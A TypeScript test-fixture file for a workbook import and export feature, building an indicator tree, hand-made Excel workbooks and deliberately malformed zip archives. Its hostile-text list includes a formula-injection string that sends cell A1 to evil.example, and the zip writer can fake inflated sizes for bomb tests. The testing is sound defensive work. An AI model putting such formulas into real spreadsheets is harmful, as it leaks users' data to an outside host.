// Test fixtures for the workbook import and export: a realistic tree with hostile text, workbooks
// laid out by hand with exceljs, and raw zip building and reading for what exceljs cannot produce
// (bombs, macros, missing members). Used only by tests.
import zlib from 'node:zlib'
import ExcelJS from 'exceljs'
import yauzl from 'yauzl'
import { defaultRule } from '../../app/domain/indicators/rule-spec'
import { blankIndicator, type IndicatorNode, type IndicatorTree, type Level } from '../../app/domain/indicators/tree'
import { FRAMEWORK_SHEET, TEMPLATE_HEADERS } from '../../app/excel/framework-workbook.server'

export function node(
  level: Level,
  code: string,
  name: string,
  weight: number,
  extra: Partial<IndicatorNode> = {},
): IndicatorNode {
  return { ...blankIndicator(level, code, name), weight, source: 'conventional', ...extra }
}

/** Text Excel would run as a formula, or that exceljs or XML would mangle without care. */
export const HOSTILE_TEXTS = [
  '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  "'quoted",
  "''twice",
  '\t制表符开头',
  '\r回车开头',
  '行内\r\n回车换行',
  '\u202E从右向左覆盖',
  '表情 😀👍🏽',
  '字面量 _x0041_ 与 _x005F_ 与 _x0041_x0042_',
  '控制字符\u0001\u001F\u007F',
  '  前后空格  ',
  '<xml attr="&amp;">',
] as const

/** A 2020-style weighted framework: all six rule types, a 4th level, multiline points, hostile text. */
export function realisticTree(): IndicatorTree {
  return {
    weighted: true,
    roots: [
      node(1, 'A', '决策', 2000, {
        weightBasis: 'official',
        source: 'official',
        children: [
          node(2, 'A1', '项目立项', 1000, {
            children: [
              node(3, 'A11', '立项依据充分性', 500, {
                explanation:
                  '项目立项是否符合法律法规、相关政策、发展规划以及部门职责，用以反映和考核项目立项依据情况。',
                points: [
                  '①项目立项是否符合国家法律法规、国民经济发展规划和相关政策',
                  '②项目立项是否符合行业发展规划和政策要求',
                  '③项目立项是否与部门职责范围相符，属于部门履职所需',
                  '④项目是否属于公共财政支持范围',
                  '⑤项目是否与相关部门同类项目或部门内部相关项目重复',
                ],
                rule: { type: 'element', shares: [2500, 2500, 2500, 2500, 0], vetoPoints: [5] },
                ruleText: '评价要点①～④每项 25%，⑤不满足的本指标 0 分。',
                evidence: '立项文件、相关规划',
              }),
              node(3, 'A12', '立项程序规范性', 500, {
                rule: {
                  type: 'qualitative',
                  bands: [
                    { label: '规范', min: 9050, max: 10000 },
                    { label: '基本规范', min: 3333, max: 9050 },
                    { label: '不规范', min: 0, max: 3333 },
                  ],
                },
                explanation: HOSTILE_TEXTS[0],
                formula: HOSTILE_TEXTS[1],
                ruleText: HOSTILE_TEXTS[2],
                unit: HOSTILE_TEXTS[3],
                target: HOSTILE_TEXTS[4],
                evidence: HOSTILE_TEXTS[5],
              }),
            ],
          }),
          node(2, 'A2', '绩效目标', 1000, {
            children: [
              node(3, 'A21', HOSTILE_TEXTS[0], 1000, {
                rule: {
                  type: 'deduction',
                  counted: '不合规事项',
                  perFinding: { unit: 'points', amount: 150 },
                  veto: '存在截留、挤占、挪用、虚列支出',
                },
                explanation: HOSTILE_TEXTS[6],
                formula: HOSTILE_TEXTS[7],
                ruleText: HOSTILE_TEXTS[8],
                unit: HOSTILE_TEXTS[9],
                target: HOSTILE_TEXTS[10],
                evidence: HOSTILE_TEXTS[11],
                points: ['表情 😀', '_x000D_ 字面量', '\u202E反向'],
              }),
            ],
          }),
        ],
      }),
      node(1, 'B', '过程', 2000, {
        children: [
          node(2, 'B1', '资金管理', 2000, {
            children: [
              node(3, 'B11', '预算执行率', 1250, {
                formula: '预算执行率 = 实际支出资金 / 实际到位资金 × 100%',
                rule: {
                  type: 'formula',
                  numerator: '实际支出资金',
                  denominator: '实际到位资金',
                  zeroBelowPercent: 6000,
                },
                unit: '%',
                target: '100',
                explanation: HOSTILE_TEXTS[12],
                ruleText: HOSTILE_TEXTS[13],
                evidence: HOSTILE_TEXTS[14],
              }),
              node(3, 'B12', '资金使用合规性', 750, {
                rule: {
                  type: 'deduction',
                  counted: '违规事项',
                  perFinding: { unit: 'percent', amount: 2500 },
                  veto: null,
                },
                source: 'typical',
              }),
            ],
          }),
        ],
      }),
      node(1, 'C', '产出', 3000, {
        children: [
          node(2, 'C1', '产出数量', 3000, {
            children: [
              node(3, 'C11', '实际完成率', 3000, {
                children: [
                  node(4, 'C111', '校舍改造完成率', 1533, {
                    rule: defaultRule('tier', { points: [], name: '完成率' }),
                    unit: '%',
                    target: '≥95%',
                    source: 'project',
                  }),
                  node(4, 'C112', '超标准支出率', 1467, {
                    direction: 'negative',
                    rule: {
                      type: 'tier',
                      measure: '超支率',
                      tiers: [
                        { bound: -150, share: 10000 },
                        { bound: 500, share: 5000 },
                      ],
                      otherwiseShare: 1000,
                    },
                    unit: '%',
                    target: '≤0',
                    source: 'project',
                  }),
                ],
              }),
            ],
          }),
        ],
      }),
      node(1, 'D', '效益', 3000, {
        children: [
          node(2, 'D1', '满意度', 3000, {
            children: [
              node(3, 'D11', '服务对象满意度', 3000, {
                rule: { type: 'survey', targetPercent: 9000 },
                unit: '%',
                target: '≥90%',
              }),
            ],
          }),
        ],
      }),
    ],
  }
}

export type SheetSpec = {
  sheetName?: string
  /** Rows above the header, as [label, value]. */
  meta?: [string, ExcelJS.CellValue][]
  /** Defaults to the template's headers in order. */
  headers?: readonly string[]
  headerRow?: number
  /** One array per data row, cells in the order of `headers`. */
  rows?: ExcelJS.CellValue[][]
}

export const VALID_META: [string, ExcelJS.CellValue][] = [
  ['框架名称', '测试框架'],
  ['类别', '项目支出绩效评价'],
  ['来源', '测试'],
  ['说明', ''],
]

/** A data row by header name, blank elsewhere; `level`..`ruleParams` are the usual suspects. */
export function dataRow(
  cells: Partial<Record<string, ExcelJS.CellValue>>,
  headers: readonly string[] = TEMPLATE_HEADERS,
): ExcelJS.CellValue[] {
  return headers.map((h) => cells[h] ?? null)
}

/** A workbook laid out by hand, for inputs the exporter would never write. */
export async function buildWorkbook(spec: SheetSpec): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook()
  const sheet = workbook.addWorksheet(spec.sheetName ?? FRAMEWORK_SHEET)
  const meta = spec.meta ?? VALID_META
  meta.forEach(([label, value], i) => {
    sheet.getCell(i + 1, 1).value = label
    sheet.getCell(i + 1, 2).value = value
  })
  const headerRow = spec.headerRow ?? 6
  const headers = spec.headers ?? TEMPLATE_HEADERS
  headers.forEach((h, i) => (sheet.getCell(headerRow, i + 1).value = h))
  ;(spec.rows ?? []).forEach((cells, r) => {
    cells.forEach((value, c) => {
      if (value !== null && value !== undefined) sheet.getCell(headerRow + 1 + r, c + 1).value = value
    })
  })
  return Buffer.from(await workbook.xlsx.writeBuffer())
}

export type ZipMember = {
  name: string
  data: Buffer
  /** 8 deflate (default) or 0 store. */
  method?: 0 | 8
  /** Lie about the inflated size in both headers. */
  declaredSize?: number
  /** Set the "encrypted" flag. */
  encrypted?: boolean
}

/** A minimal zip writer: enough to build archives that exceljs would refuse to write. */
export function makeZip(members: readonly ZipMember[]): Buffer {
  const locals: Buffer[] = []
  const centrals: Buffer[] = []
  let offset = 0
  for (const m of members) {
    const method = m.method ?? 8
    const body = method === 8 ? zlib.deflateRawSync(m.data) : m.data
    const name = Buffer.from(m.name, 'utf8')
    const size = m.declaredSize ?? m.data.length
    const crc = zlib.crc32(m.data)
    const flags = (m.encrypted ? 1 : 0) | 0x800
    const local = Buffer.alloc(30)
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(20, 4)
    local.writeUInt16LE(flags, 6)
    local.writeUInt16LE(method, 8)
    local.writeUInt32LE(crc, 14)
    local.writeUInt32LE(body.length, 18)
    local.writeUInt32LE(size, 22)
    local.writeUInt16LE(name.length, 26)
    const central = Buffer.alloc(46)
    central.writeUInt32LE(0x02014b50, 0)
    central.writeUInt16LE(20, 4)
    central.writeUInt16LE(20, 6)
    central.writeUInt16LE(flags, 8)
    central.writeUInt16LE(method, 10)
    central.writeUInt32LE(crc, 16)
    central.writeUInt32LE(body.length, 20)
    central.writeUInt32LE(size, 24)
    central.writeUInt16LE(name.length, 28)
    central.writeUInt32LE(offset, 42)
    locals.push(local, name, body)
    centrals.push(central, name)
    offset += local.length + name.length + body.length
  }
  const directory = Buffer.concat(centrals)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(members.length, 8)
  end.writeUInt16LE(members.length, 10)
  end.writeUInt32LE(directory.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, directory, end])
}

/** Every member of a zip, inflated (for test inspection of what the exporter wrote). */
export function unzip(bytes: Buffer): Promise<Map<string, Buffer>> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (err, zip) => {
      if (err || !zip) return reject(err ?? new Error('no zip'))
      const out = new Map<string, Buffer>()
      zip.on('entry', (entry: yauzl.Entry) => {
        zip.openReadStream(entry, (e, stream) => {
          if (e || !stream) return reject(e ?? new Error('no stream'))
          const chunks: Buffer[] = []
          stream.on('data', (c: Buffer) => chunks.push(c))
          stream.on('end', () => {
            out.set(entry.fileName, Buffer.concat(chunks))
            zip.readEntry()
          })
        })
      })
      zip.on('end', () => resolve(out))
      zip.on('error', reject)
      zip.readEntry()
    })
  })
}

/** The members of an exceljs workbook, to rebuild it with a member added or removed. */
export async function membersOf(bytes: Buffer): Promise<ZipMember[]> {
  const entries = await unzip(bytes)
  return [...entries].map(([name, data]) => ({ name, data }))
}
